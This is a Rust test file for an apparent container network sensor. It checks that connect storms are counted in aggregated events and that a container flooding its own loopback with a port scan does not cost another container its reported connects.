/// picks ports from 2000-20000 (a node that widened `ip_local_port_range`, as load balancers
/// and connection-heavy nodes do), and the service listens on 50051 (gRPC's port), above
/// Linux's default ephemeral range. The sensor takes the serving end from the kernel (the
/// listener, the connect), so the storm is still a few events, and the server's traffic one
/// flow keyed by its own port, the client's by the server's.
#[test]
fn a_connect_storm_is_counted_whatever_the_port_numbers() {
    let (sensor, server, client) = connect_storm_is_counted(
        "repeats_wide_range",
        [50051, 50052],
        &["--sysctl", "net.ipv4.ip_local_port_range=2000 20000"],
    );
    let server = server.id.as_str();
    let client_port = lines::events(&sensor.lines())
        .find_map(|e| sock_op(e, "connect", &client).map(|s| endpoint(&s.local).port))
        .expect("a connect of the client with its local port");
    assert!(
        (2000..=20000).contains(&client_port),
        "the client's port {client_port} comes from its widened range"
    );
    sensor.wait_until(Duration::from_secs(15), |evs| {
        !tcp_flow_ports(evs, server).is_empty() && !tcp_flow_ports(evs, &client).is_empty()
    });
    let evs = sensor.lines();
    let (served, used) = (tcp_flow_ports(&evs, server), tcp_flow_ports(&evs, &client));
    assert!(
        !served.is_empty() && !used.is_empty(),
        "{served:?} {used:?}"
    );
    assert!(
        served.iter().all(|f| *f == (0, 50051) || *f == (0, 50052)),
        "the server's flows are keyed by its own ports: {served:?}"
    );
    assert!(
        used.iter().all(|f| *f == (50051, 0) || *f == (50052, 0)),
        "the client's flows are keyed by the server's ports: {used:?}"
    );
}

/// Runs [`a_connect_storm_to_one_service_is_a_few_events_that_count_every_connection`] with
/// the server on `ports` (the storm's, then the one connected to once after it) and `client`
/// options for the client's `docker run`; returns the sensor, the server (removed when
/// dropped) and the client's id.
fn connect_storm_is_counted(
    name: &str,
    ports: [u32; 2],
    client: &[&str],
) -> (Sensor, Listener, String) {
    const STORM: u64 = 500;
    let sensor = Sensor::start(name);
    let bin = env!("CARGO_BIN_EXE_connect-loop");
    let program = HostProgram::new(bin, "/connect-loop");
    let (port, port2) = (ports[0].to_string(), ports[1].to_string());
    // A server that keeps up: one whose backlog overflows (busybox httpd's 9) delays connections
    // by seconds of retransmits.
    let server = sensor.listener_with(
        &program.args(),
        &["/connect-loop", "serve", "120", &port, &port2],
    );
    sensor.expect(&format!("listen on {port}"), |e| {
        sock_op(e, "listen", &server.id).is_some_and(|s| endpoint(&s.local).port == ports[0])
    });
    let mut args: Vec<&str> = client.to_vec();
    args.extend(program.args());
    let image = image();
    let storm = STORM.to_string();
    let sip = server.ip.as_str();
    args.extend([
        image.as_str(),
        "/connect-loop",
        "storm",
        sip,
        &port,
        &storm,
        "0",
        sip,
        &port2,
    ]);
    let client = docker_run_rm(&args);
    sensor.expect("the connect to the second port", |e| {
        sock_op(e, "connect", &client).is_some_and(|s| endpoint(&s.remote).port == ports[1])
    });
    // Every kind of record sums to its operations, at least ten times fewer events than
    // operations. The storm ends with no pause: the last window of each kind ends with no
    // report to carry its count, which the agent then reports as a `trailing` event.
    let counted =
        |what: &str, expected: u64, wanted: &dyn Fn(&pb::Event) -> Option<(u32, bool)>| {
            // Accepts and the server's states trail the client's connects by a moment; the
            // windows' last counts, by a window or two.
            let total = |evs: &[Line]| -> (u64, usize, usize) {
                let reports: Vec<(u32, bool)> = lines::events(evs).filter_map(wanted).collect();
                (
                    reports.iter().map(|(r, _)| 1 + *r as u64).sum(),
                    reports.len(),
                    reports.iter().filter(|(_, trailing)| *trailing).count(),
                )
            };
            sensor.wait_until(Duration::from_secs(10), |evs| total(evs).0 >= expected);
            let lines = sensor.lines();
            let (operations, events, trailing) = total(&lines);
            // Under load from tests alongside (another container's flood, which this sensor sees
            // too) the JSON sink may shed lines, as it is built to, rather than stall: the lines'
            // sequence numbers then have gaps, and the sum can only fall short.
            let mut seqs: Vec<u64> = lines::events(&lines).map(|e| e.seq).collect();
            seqs.sort_unstable();
            let shed = seqs.windows(2).any(|w| w[1] > w[0] + 1);
            if shed {
                assert!(operations <= expected, "{what}: {operations} of {expected}");
            } else {
                assert_eq!(operations, expected, "{what}: {events} events");
                assert!(
                    trailing >= 1,
                    "{what}: the last window's count, reported trailing"
                );
            }
            assert!(
                events >= 2 && events as u64 * 10 <= operations,
                "{what}: {operations} operations in {events} events"
            );
        };
    let to_service = |e: &pb::Event, op: &str| {
        sock_op(e, op, &client)
            .filter(|s| endpoint(&s.remote).port == ports[0])
            .map(|s| (s.repeats, s.trailing))
    };
    counted("connects", STORM + 1, &|e| to_service(e, "connect"));
    // A trailing event comes after its process exited: the agent still names it.
    for e in lines::events(&sensor.lines()).filter(|e| to_service(e, "connect").is_some()) {
        let exe = e.process.as_ref().map(|p| p.exe.as_str());
        assert_eq!(exe, Some("/connect-loop"), "{e:?}");
    }
    // Sockets are keyed without a peer: the one for the connect to 8001 is among them.
    counted("sockets", STORM + 2, &|e| {
        sock_op(e, "socket", &client).map(|s| (s.repeats, s.trailing))
    });
    counted("accepts", STORM + 1, &|e| {
        sock_op(e, "accept", &server.id)
            .filter(|s| endpoint(&s.local).port == ports[0])
            .map(|s| (s.repeats, s.trailing))
    });
    let established = |cid: String, port_of: fn(&pb::TcpState) -> u32| {
        move |e: &pb::Event| {
            (kind_in(e, "tcp_state", &cid)
                && e.tcp_state().new_state == "ESTABLISHED"
                && port_of(e.tcp_state()) == ports[0])
                .then(|| (e.tcp_state().repeats, e.tcp_state().trailing))
        }
    };
    counted(
        "client states",
        STORM + 1,
        &established(client.clone(), |t| endpoint(&t.remote).port),
    );
    counted(
        "server states",
        STORM + 1,
        &established(server.id.clone(), |t| endpoint(&t.local).port),
    );
    (sensor, server, client)
}

#[test]
fn a_flooding_container_does_not_cost_another_its_events() {
    // A low limit, so the flood exceeds it within a bounded time.
    let sensor = Sensor::start_with("flood", &["--net-rate", "20", "--net-burst", "20"]);
    // A port scan from one process (each connect a different operation, so the repeat window
    // folds none of them): thousands of records over the limit, few processes, bounded in
    // count and time.
    let bin = env!("CARGO_BIN_EXE_connect-loop");
    let program = HostProgram::new(bin, "/connect-loop");
    let mut args: Vec<&str> = vec!["run", "-d"];
    args.extend(program.args());
    let image = image();
    args.extend([
        image.as_str(),
        "/connect-loop",
        "scan",
        "127.0.0.1",
        "1000",
        "60000",
        "4",
    ]);
    let flood = docker(&args);
    let _cleanup = Containers(vec![flood.clone()]);
    thread::sleep(Duration::from_millis(500));
    // Five connects (refused: nothing listens on its own port 1) while the flood runs.
    let quiet = docker_run_rm(&[
        &image,
        "sh",
        "-c",
        "for i in 1 2 3 4 5; do nc 127.0.0.1 1 </dev/null; sleep 0.2; done",
    ]);
    docker(&["wait", &flood]);
    let connects = |lines: &[Line], cid: &str| {
        lines::events(lines)
            .filter(|e| sock_op(e, "connect", cid).is_some())
            .count()
    };
    // The agent may still be working through the flood.
    sensor.wait_until(Duration::from_secs(10), |evs| connects(evs, &quiet) >= 5);
    let evs = sensor.lines();
    assert_eq!(
        connects(&evs, &quiet),
        5,
        "every connect of the quiet container is reported"
    );
    assert!(
        connects(&evs, &flood) > 0,
        "the flooding container is still seen"
    );
    let dropped = sensor
        .wait_for(Duration::from_secs(5), |e| {
            e.kind == "health"
                && e.health()
                    .rings
                    .get(1)
                    .is_some_and(|r| r.dropped_rate_limited > 0)
        })
        .expect("rate-limited drops are counted and reported in health");
    assert_eq!(dropped.health().rings[1].ring, "network");
    assert!(dropped.health().dropped_total > 0);
}
